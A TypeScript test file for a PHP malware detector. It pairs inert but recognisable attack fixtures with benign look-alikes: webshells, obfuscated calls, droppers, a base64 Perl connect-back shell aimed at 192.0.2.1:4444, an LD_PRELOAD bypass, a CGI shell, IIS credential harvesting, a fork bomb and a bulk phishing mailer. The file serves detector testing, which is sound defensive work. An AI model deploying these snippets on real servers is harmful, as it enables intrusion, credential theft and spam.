/**
 * PHP mechanisms added for issue #15 (PHP recall): names finished through by-reference
 * parameters and reference aliases, register_globals uploaders, calls hidden behind the file's
 * own decoder, XOR-spelled callbacks, droppers (web root, temp-folder connect-back, LD_PRELOAD
 * libraries, CGI through .htaccess), IIS credential harvesting, gated content injection and
 * list mailers. Every fixture is written for this test and is inert text; each positive has a
 * benign look-alike with its exact outcome.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const verdict = (name: string, code: string): [string | undefined, string[]] => {
  const f = findingOf(name, code);
  return [f?.verdict, reasons(f)];
};

test('php by-reference parameter: the helper finishes the function name in the caller', () => {
  const code = `<?php\nfunction grow(&$s) { $s = $s . "t"; }\n$n = "asser";\ngrow($n);\n$n($_GET["q"]);\n`;
  assert.deepEqual(verdict('a.php', code), ['malicious', ['data flow: request input reaches assert() called through a variable']]);
  // a by-reference helper that appends to a label that is printed, never called
  const ok = `<?php\nfunction suffix(&$s) { $s .= "_total"; }\n$label = "count";\nsuffix($label);\necho htmlspecialchars($label . ': ' . $_GET['n']);\n`;
  assert.deepEqual(verdict('b.php', ok), [undefined, []]);
});

test('php reference alias: writing through `$r = &$obj->get()` sets the property', () => {
  const code = `<?php
class Box { public $v = ''; public function &get() { return $this->v; } }
$b = new Box();
$r = &$b->get();
$r = $_POST['x'];
echo shell_exec($b->v);
`;
  assert.deepEqual(verdict('c.php', code), [
    'malicious',
    ['data flow: request input reaches shell_exec()', 'runs OS commands (shell_exec)', 'OS command built from variables in a script that reads request input'],
  ]);
  // the alias is given a fixed command: a status page
  const ok = code.replace("$_POST['x']", "'uptime'");
  assert.deepEqual(verdict('d.php', ok), [undefined, []]);
});

test('php register_globals file manager that writes request text to a request path is an uploader', () => {
  const code = `<?php
if ($save != "") { $fp = fopen("$dir/$name", 'w'); fwrite($fp, $body); fclose($fp); }
if ($del != "") { unlink("$dir/$del"); }
if ($mk != "") { mkdir("$dir/$mk"); }
`;
  assert.deepEqual(verdict('e.php', code), [
    'malicious',
    [
      'request chooses both the file written and its content (register_globals request variables)',
      'file operations (fopen, unlink, mkdir) on paths from never-assigned register_globals request variables (file manager)',
    ],
  ]);
  // every variable is the page's own
  const ok = `<?php\n$dir = __DIR__; $name = 'stamp.txt'; $body = date('c'); $del = 'old.txt'; $mk = 'cache';\n${code.slice(6)}`;
  assert.deepEqual(verdict('f.php', ok), [undefined, []]);
});

test("php call whose function and argument both come out of the file's own decoder", () => {
  const dec = `function unhex($s) { $o = ''; for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2))); } return $o; }`;
  // 'system' and 'id' spelled in hex
  const code = `<?php\n${dec}\n(@$_ = unhex('73797374656d')) . @$_(unhex('6964'));\n`;
  assert.deepEqual(verdict('g.php', code), ['malicious', ["function name and its argument both produced by the file's own decoder unhex() (hidden call)"]]);
  // the decoded name called with a plain literal stays the weaker finding
  const half = `<?php\n${dec}\n$f = unhex('73797374656d');\n$f('id');\n`;
  assert.deepEqual(verdict('h.php', half), ['suspicious', ["function name produced by the file's own decoder unhex() and then called"]]);
});

test('php request input handed to a callback whose name only an XOR of strings spells', () => {
  const pad = `// ${'callback sorting notes '.repeat(50)}\n`;
  const code = `<?php\n${pad}$key = 'k';\n$f = pack('H*', '0a18180e1f') ^ str_repeat($key, 5);\narray_map($f, array($_REQUEST['v']));\n`;
  assert.deepEqual(verdict('i.php', code), ['malicious', ['request input passed to a callback whose name is computed by XOR of strings (array_map)']]);
  // the callback comes from configuration: the weaker runtime-callback finding
  const ok = `<?php\n${pad}$f = $config['formatter'];\narray_map($f, array($_REQUEST['v']));\n`;
  assert.deepEqual(verdict('j.php', ok), ['suspicious', ['request input passed to a callback chosen at runtime (array_map)']]);
});

test('php web-root dropper: fetched text saved as a .php file in the web root', () => {
  const head = `<?php\nfunction get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n`;
  const code = `${head}$p = $_SERVER['DOCUMENT_ROOT'] . "/wp-includes/extra.php";\n$t = get('https://paste.example.test/raw/abc');\n$o = fopen($p, 'w');\nfwrite($o, $t);\n`;
  assert.deepEqual(verdict('k.php', code), ['malicious', ['saves content fetched from the web as a server script in the web root (dropper)']]);
  const html = code.replace('/wp-includes/extra.php', '/news.html');
  assert.deepEqual(verdict('l.php', html), ['suspicious', ['writes content fetched from the web into the web root (defacement / dropper)']]);
});

test('php tiny copy() dropper of a script from a URL', () => {
  const code = `<?php\necho copy("http://downloads.example.test/tool.txt", "tool.php");\n`;
  assert.deepEqual(verdict('m.php', code), ['malicious', ['copies a script from a URL into a PHP file (dropper)']]);
  // inside a larger installer script the same call stays suspicious
  const big = `<?php\n// ${'installer step notes '.repeat(60)}\necho copy("http://downloads.example.test/tool.txt", "tool.php");\n`;
  assert.deepEqual(verdict('n.php', big), ['suspicious', ['copies a script from a URL into a PHP file (dropper)']]);
});

test('php password gate in front of raw SQL writes of request data', () => {
  const code = `<?php
if (md5($_REQUEST['k']) == '0123456789abcdef0123456789abcdef') {
  $wpdb->query("UPDATE wp_posts SET post_content = '" . $_REQUEST['c'] . "' WHERE ID = 1");
}
`;
  assert.deepEqual(verdict('o.php', code), [
    'malicious',
    [
      'behind the password gate, request data is written into the site database by raw SQL (content injection)',
      'request parameter checked against a hard-coded hash (backdoor password gate)',
    ],
  ]);
  // the same SQL without the hard-coded secret is an application's (unsafe) update
  const ok = code.replace("md5($_REQUEST['k']) == '0123456789abcdef0123456789abcdef'", 'current_user_can("edit_posts")');
  assert.deepEqual(verdict('p.php', ok), [undefined, []]);
});

test('php IIS metabase: site-account passwords are credential harvesting', () => {
  const code = `<?php\n$s = new COM("IIS://localhost/w3svc/1/Root");\necho $s->AnonymousUserName . ':' . $s->AnonymousUserPass;\n`;
  assert.deepEqual(verdict('q.php', code), ['malicious', ['reads the IIS site-account passwords from the metabase through COM (credential harvesting)']]);
  const ok = `<?php\n$s = new COM("IIS://localhost/w3svc/1");\necho $s->ServerComment;\n`;
  assert.deepEqual(verdict('r.php', ok), ['suspicious', ['reads the IIS metabase through COM (sites, anonymous-user passwords)']]);
});

test('php temp-folder launcher whose script is a connect-back shell', () => {
  // a hand-written Perl socket-to-shell script, base64 in two pieces
  const b64 =
    'IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7CnNvY2tldChTLCBQRl9JTkVULCBTT0NLX1NUUkVBTSwgZ2V0cHJvdG9ieW5hbWUoInRjcCIpKTsKY29ubmVjdChTLCBzb2NrYWRkcl9pbigkQVJHVlsxXSwgaW5ldF9hdG9uKCRBUkdWWzBdKSkpOwpvcGVuKFNURElOLCAiPiZTIik7IG9wZW4oU1RET1VULCAiPiZTIik7CmV4ZWMoIi9iaW4vc2ggLWkiKTsK';
  const code = `<?php
function put($f, $t) { $h = fopen($f, 'w'); fputs($h, base64_decode($t)); fclose($h); }
$bc = "${b64.slice(0, 100)}" .
"${b64.slice(100)}";
put('/tmp/.bc', $bc);
exec("perl /tmp/.bc 192.0.2.1 4444 &");
`;
  assert.deepEqual(verdict('s.php', code), ['malicious', ['writes a connect-back shell into a temp folder and starts it from a command line', 'runs OS commands (exec)']]);
  // a cleanup script written and started the same way
  const clean = Buffer.from('#!/bin/sh\nfind /tmp/cache -mtime +2 -delete\nrm -f /tmp/cache/.lock\n').toString('base64');
  const ok = code.replace(/\$bc = [\s\S]*?;\n/, `$bc = "${clean}";\n`).replace('perl /tmp/.bc 192.0.2.1 4444 &', 'sh /tmp/.bc &');
  assert.deepEqual(verdict('t.php', ok), [
    'suspicious',
    ['writes a script into a temp folder and starts it from a command line (dropped daemon / connect-back)', 'runs OS commands (exec)'],
  ]);
});

test('php LD_PRELOAD dropper: a native library written by the page and preloaded', () => {
  const code = `<?php\n$so = "\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00";\nfile_put_contents('./helper.so', $so);\nputenv("LD_PRELOAD=./helper.so");\nmail('a@example.test', '', '', '');\n`;
  // (php/bypass.ts names the putenv + mail() half of the same technique)
  assert.deepEqual(verdict('u.php', code), [
    'malicious',
    [
      'sets LD_PRELOAD and then starts a child process (mail/error_log): library injection past disable_functions',
      'writes a native library and loads it into a program through LD_PRELOAD (native-code dropper)',
    ],
  ]);
  // a page that only prints setup advice naming LD_PRELOAD
  const ok = `<?php\nfile_put_contents('notes.txt', 'tuning');\necho "export LD_PRELOAD=/usr/lib/libjemalloc.so before starting the worker";\n`;
  assert.deepEqual(verdict('v.php', ok), [undefined, []]);
});

test('php list mailer: every line of a list file mailed in an unbounded loop', () => {
  const code = `<?php
set_time_limit(0);
$lines = @file('list.txt');
for ($i = 0; $i < count($lines); $i++) {
  $to = trim($lines[$i]);
  mail($to, 'Account notice', 'Please confirm', "From: Support <support@bank.example.test>");
}
`;
  assert.deepEqual(verdict('w.php', code), ['suspicious', ['mails every address of a list file in an unbounded loop (bulk mailer)']]);
  // a cron job that reads its log and mails one fixed address
  const ok = code.replace('$to = trim($lines[$i]);', '$to = "ops@example.test";');
  assert.deepEqual(verdict('x.php', ok), [undefined, []]);
});

test('php CGI dropper: .htaccess enabling CGI plus a script running the query string', () => {
  const code = `<?php
$dir = 'cgi';
mkdir($dir);
file_put_contents("$dir/.htaccess", "Options +ExecCGI\\nAddHandler cgi-script .x\\n");
$script = <<<EOT
#!/bin/sh
echo "Content-type: text/plain"
echo ""
/bin/sh -c "\\$QUERY_STRING"
EOT;
file_put_contents("$dir/run.x", $script);
chmod("$dir/run.x", 0755);
`;
  assert.deepEqual(verdict('y.php', code), ['malicious', ['writes an .htaccess enabling CGI and a CGI script that runs the query string as a shell command (CGI shell dropper)']]);
  const ok = code.replace('/bin/sh -c "\\$QUERY_STRING"', 'date');
  assert.deepEqual(verdict('z.php', ok), ['suspicious', ['.htaccess written to run CGI scripts in a web folder']]);
});

test('php host attacks: an endless fork loop, a Windows account planted through Shell.Users', () => {
  assert.deepEqual(verdict('fb.php', `<?php\nwhile (true) { pcntl_fork(); }\n`), ['malicious', ['forks in an endless loop (fork bomb)']]);
  // a worker pool forks a bounded number of children
  assert.deepEqual(verdict('pool.php', `<?php\nfor ($i = 0; $i < 4; $i++) { if (pcntl_fork() === 0) { work(); exit(0); } }\n`), [undefined, []]);
  const add = `<?php\n$u = new COM("Shell.Users");\n$h = $u->create("helpdesk2");\n$h->changePassword("Winter2026!", "");\n$h->setting["AccountType"] = 3;\n`;
  assert.deepEqual(verdict('su.php', add), ['malicious', ['creates a Windows user account through the Shell.Users COM object']]);
  // the same object only listing accounts stays the shell-object capability
  const list = `<?php\n$u = new COM("Shell.Users");\nforeach ($u as $x) { echo $x->name; }\n`;
  assert.deepEqual(verdict('sl.php', list), ['suspicious', ['creates a Windows shell COM object']]);
});

test('php uploader: an extension computed and a type printed check nothing', () => {
  const code = `<?php
$parts = explode(".", $_FILES["f"]["name"]);
$ext = end($parts);
echo "Type: " . $_FILES["f"]["type"];
move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);
`;
  assert.deepEqual(verdict('up.php', code), ['malicious', ['small script stores an upload under the client-chosen name with no type or extension check (uploader)']]);
  // the extension is compared before the move: a checked upload
  const ok = code.replace('echo "Type: "', 'if (!in_array($ext, array("jpg", "png"))) die("no");\necho "Type: "');
  assert.deepEqual(verdict('up2.php', ok), ['suspicious', ['move_uploaded_file() stores an upload under a name the client chose']]);
});

test('php listening socket bound where the request says; decoded request data parked in the session', () => {
  const fwd = `<?php\n$ip = $_GET['ip'];\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, $ip, 8080);\nsocket_listen($s);\n$c = socket_accept($s);\n`;
  assert.deepEqual(verdict('fw.php', fwd), ['suspicious', ['request input chooses the address a listening socket binds to (port forwarder / tunnel)']]);
  // a fixed local listener (a test helper) is not request-driven
  assert.deepEqual(verdict('fw2.php', fwd.replace("$_GET['ip']", "'127.0.0.1'")), [undefined, []]);
  const stash = `<?php\nsession_start();\n$_SESSION['d'] = base64_decode($_COOKIE['t']);\n`;
  assert.deepEqual(verdict('ss.php', stash), ['suspicious', ['tiny script stores decoded request data in the session (the loader half of a session-carried backdoor)']]);
  // a login keeps the posted user name as sent
  assert.deepEqual(verdict('ss2.php', `<?php\nsession_start();\n$_SESSION['user'] = $_POST['user'];\n`), [undefined, []]);
});

test('php register_globals: a default given only to an empty variable keeps it the request value', () => {
  const code = `<?php\nif ($cmd == "") { $cmd = 'dir'; }\necho "<pre>";\nsystem($cmd);\n`;
  assert.deepEqual(verdict('rg.php', code), [
    'malicious',
    ['system() runs a variable that is never assigned (register_globals request variable $cmd)', 'runs OS commands (system)'],
  ]);
  // an unconditional assignment fixes the command
  assert.deepEqual(verdict('rg2.php', `<?php\n$cmd = 'uptime';\necho "<pre>";\nsystem($cmd);\n`), [undefined, []]);
});

test('php extract($_POST, EXTR_SKIP) imports the request names as register_globals did', () => {
  const code = `<?php\n@extract($_POST, EXTR_SKIP);\nif ($del) unlink("$dir/$del");\nif ($up) copy($up, "$dir/$up_name");\nif ($md) mkdir("$dir/$md");\n`;
  const f = verdict('ex.php', code);
  assert.equal(f[0], 'malicious');
  assert.ok(f[1].includes('file operations (unlink, copy, mkdir) on paths from never-assigned request variables set by extract() (file manager)'), JSON.stringify(f[1]));
  // a prefix flag renames every imported variable: the page's own names are not the request's
  const ok = verdict('ex2.php', code.replace('EXTR_SKIP', 'EXTR_PREFIX_ALL, "in"'));
  assert.ok(!ok[1].some((r) => r.includes('on paths from never-assigned')), JSON.stringify(ok[1]));
});

test('php memory-corruption disable_functions bypass: pointers packed into strings, zif_system hunted', () => {
  const code = `<?php
class Pwn {
  function str2ptr($s, $o = 0) { $a = 0; for ($i = 7; $i >= 0; $i--) { $a = ($a << 8) | ord($s[$o + $i]); } return $a; }
  function write($addr, $v) { fwrite($this->fp, pack('Q', $v)); }
  function get_basic_funcs($base) { return $this->str2ptr($this->leak($base + 0x40)); }
  function get_system($funcs) { $zif_system = $this->str2ptr($this->leak($funcs + 8)); return $zif_system; }
}
`;
  assert.deepEqual(verdict('bp.php', code), ['malicious', ['corrupts PHP memory to call the native system handler (disable_functions bypass exploit)']]);
  // a diagnostics page counting the functions of the standard extension
  const ok = `<?php\n$f = get_extension_funcs('standard');\necho count($f) . ' basic_functions; system() ' . (function_exists('system') ? 'on' : 'off');\n`;
  assert.deepEqual(verdict('bp2.php', ok), [undefined, []]);
});

test('php internal network sweep over a segment the request names', () => {
  const code = `<?php
$net = $_GET['net'];
for ($i = 1; $i < 255; $i++) {
  $u = "http://" . $net . $i;
  $c = curl_init($u);
  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
  if (curl_exec($c)) echo $u . "<br>";
}
`;
  assert.deepEqual(verdict('sw.php', code), ['malicious', ['fetches every address of a network segment the request names (internal network scanner)']]);
  // the monitoring page's own fixed segment
  assert.deepEqual(verdict('sw2.php', code.replace("$_GET['net']", "'10.0.0.'")), [undefined, []]);
});
